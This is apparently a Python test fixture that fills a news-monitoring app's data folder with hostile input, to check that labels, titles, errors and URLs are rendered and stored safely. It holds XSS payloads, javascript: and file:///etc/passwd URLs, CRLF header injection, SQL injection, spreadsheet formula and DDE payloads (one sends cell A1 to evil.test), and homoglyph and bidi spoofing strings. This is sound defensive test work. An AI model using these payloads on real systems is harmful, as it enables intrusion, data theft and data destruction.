"""A data folder in which every word that comes from outside is hostile: labels, names, news, reasons, errors."""

from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import fakeredis
from sqlalchemy import update
from sqlmodel import col

from monitor.log.events import Event
from monitor.log.stream import EventLog
from monitor.readmodel.model import ReadModel
from monitor.readmodel.roles import note_health
from monitor.readmodel.store import Store
from monitor.service.wiring import open_service
from monitor.sources.config import SourceConfig
from monitor.sources.model import ArticleFound
from monitor.sources.seen import Entries, Judged
from monitor.sources.state import SourceState, SourceStates, stamp
from monitor.topics.model import Channel, Party, Topic
from monitor.vocabulary import ClaimKind, Precision, Status
from tests.readmodel.story import Story, claim, project

TEXTS = {
    "script": "<script>window.__x=1</script><svg/onload=window.__x=2><math><mi//xlink:href='data:x,1'>",
    "image": '<img src="http://evil.test/a.png" onerror="window.__x=3"><video poster=//evil.test/v></video>',
    "frame": "<iframe srcdoc='<script>parent.__x=4</script>'></iframe><object data='//evil.test/o'></object>",
    "form": '<form action="http://evil.test/f"><input name=token autofocus onfocus="window.__x=5"></form>',
    "out of the style": "</style></title></textarea>--><script>window.__x=6</script><style>*{display:none}",
    "css": "<style>@import '//evil.test/c.css';body{display:none!important}</style>",
    "css value": "red;background:url(http://evil.test/b.png);position:fixed;inset:0;z-index:99999",
    "attribute": '" onmouseover="window.__x=7" style="position:fixed;inset:0" x=\'',
    "attribute, single": "' autofocus onfocus='window.__x=8' y=\"`",
    "entity": "&lt;script&gt;window.__x=9&lt;/script&gt; &#60;img src=x onerror=window.__x=10&#62;",
    "markdown": "![p](http://evil.test/md.png) [l](javascript:window.__x=11) <http://evil.test> **b** `c` ~~d~~",
    "streamlit": ":red[hi] :material/home: :streamlit: $\\href{http://evil.test}{x}$ :small[s] :blue-badge[b]",
    "html in markdown": "# head\n\n<details open ontoggle=window.__x=12>\n\n> q\n\n| a | b |\n|---|---|\n",
    "template": "{{constructor.constructor('window.__x=13')()}} ${window.__x=14} {0} {name} %s %(n)s #{x} <%= y %>",
    "vega": "datum['__proto__'] signal(x) [[url]] \\.\\[0\\] a.b['c'] \"expr\": \"warn('x')\"",
    "formula": '=HYPERLINK("http://evil.test/"&A1,"open")',
    "formula, plus": "+1+cmd|' /C calc'!A0",
    "formula, at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "header": "x\r\nSet-Cookie: evil=1\r\nX-Evil: 1\r\n\r\n<script>window.__x=15</script>",
    "sql": "'; DROP TABLE article; -- \" OR 1=1 % _ \\",
    "right to left": "\u202ereversed\u202d \u2067kept\u2069 \u200fafter gnp.elif\u202e",
    "invisible": "zero\u200bwidth\ufeff\u00ad\u2060joined\u200d",
    "homoglyph": "раураl.example is not what it seems",  # Cyrillic letters
    "marks": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e" * 12,
    "word": "w" * 4000,
    "address": "https://phish.test/login?next=http://evil.test/#@bank.example",
}
URLS = (
    "javascript:window.__x=20",
    "JaVaScRiPt:window.__x=21",
    "\tjava\nscript:window.__x=22",
    "data:text/html,<script>opener.__x=23</script>",
    "vbscript:window.__x=24",
    "//evil.test/protocol-relative",
    'https://phish.test/"onmouseover="window.__x=25',
    "https://phish.test/'><script>window.__x=26</script>",
    "https://bank.example@phish.test/\u202e",
    "http://[not-an-address",
    "file:///etc/passwd",
    "https://раураl.example/",
)
ALL = " ".join(text for name, text in TEXTS.items() if name != "word")
TOPIC = Topic(
    id="hostile",
    label=f"Label {ALL}",
    parties=tuple(
        Party(id=f"p{nth}", label=f"Party {text}", aliases=(f"alias {nth}",))
        for nth, text in enumerate(TEXTS.values())
    ),
    channels=(
        Channel(id="first", label=f"First {ALL}", parties=("p0", "p1")),
        Channel(id="second", label=f"Second {TEXTS['word']}", parties=("p2", "p3")),
    ),
)
OTHER = Topic(
    id="other",
    label=f"Other {TEXTS['markdown']} {TEXTS['image']}",
    parties=(Party(id="a", label="A", aliases=("a",)), Party(id="b", label="B", aliases=("b",))),
    channels=(Channel(id="c", label=TEXTS["streamlit"], parties=("a", "b")),),
)


def fill(folder: Path, today: date) -> dict[str, tuple[Event, Event]]:
    """Write it all; gives each text's article and alert."""
    log = EventLog(fakeredis.FakeRedis(protocol=2, legacy_responses=False, server=fakeredis.FakeServer()))
    story, other, model = Story(log, TOPIC), Story(log, OTHER), ReadModel(folder)
    told = {name: _tell(story, nth, name, today) for nth, name in enumerate(TEXTS)}
    other.define()
    project(story, model)
    project(other, model)
    model.close()
    _service(folder)
    return told


def _tell(story: Story, nth: int, name: str, today: date) -> tuple[Event, Event]:
    """An article, its claim, its shift and its alert, all in hostile words."""
    if nth == 0:
        story.define()
    text, day = TEXTS[name], today - timedelta(days=2 * (len(TEXTS) - nth))
    article = story.article(
        *(
            f"h{nth}",
            f"Outlet {text}",
            day,
            f"Title {text}",
            f"It began. {text} The minister called for talks.",
        ),
        url=URLS[nth % len(URLS)],
        author=f"By {text}",
        language=("en", "ur", 'en" onclick="window.__x=30')[nth % 3],
        source=f"feed {text}",
    )
    kinds = ("proposed", "underway", "stalled", "rejected", "agreement")
    kind, channel = kinds[nth % len(kinds)], ("first", "second")[nth % 2]
    quote = f"{text} The minister called for talks"
    found = [claim(article, channel, kind, quote, day, day, parties=("p0",), principal="p0")]
    story.claims(article, *found)
    to = ClaimKind(kind).status
    shift = story.shift(article, channel, Status.NONE, to, f"name {text}", (day, day), found)
    type_ = "alert.suppressed" if nth % 4 == 3 else "alert.raised"
    alert = story.alert(shift, article, found, type_=type_, reason=f"reason {text}")
    if nth % 5 == 4:
        story.withdraw(shift)
    return article, alert


def _service(folder: Path) -> None:
    """Sources and roles that complain in hostile words."""
    engine, now = open_service(Store(folder)), datetime.now(UTC)
    states, entries = SourceStates(engine), Entries(engine, "topics")
    ids = {f"s{nth}": text for nth, text in enumerate(TEXTS.values())}
    states.enrol(
        [SourceConfig(id=id_, url=f"https://{id_}.example/{id_}", outlet=text) for id_, text in ids.items()],
        now,
    )
    for id_, text in ids.items():
        values = {"error_streak": 3, "failing_since": stamp(now), "last_poll_at": stamp(now)}
        with engine.begin() as connection:
            chosen = update(SourceState).where(col(SourceState.source_id) == id_)
            connection.execute(chosen.values(**values, last_error=f"not_found: {text}"))
        found = ArticleFound(
            url=URLS[0], outlet=text, source=id_, title=text, text=text, language="en", published_at=None,
            precision=Precision.DAY, first_seen_at=now, guid=text,
        )  # fmt: skip
        entries.note(id_, [], [Judged(found, f"hostile: names nobody {text}")], now)
    note_health(engine, "ingest", now, f"trouble {ALL}", instance=f"host {TEXTS['image']}")
    engine.dispose()
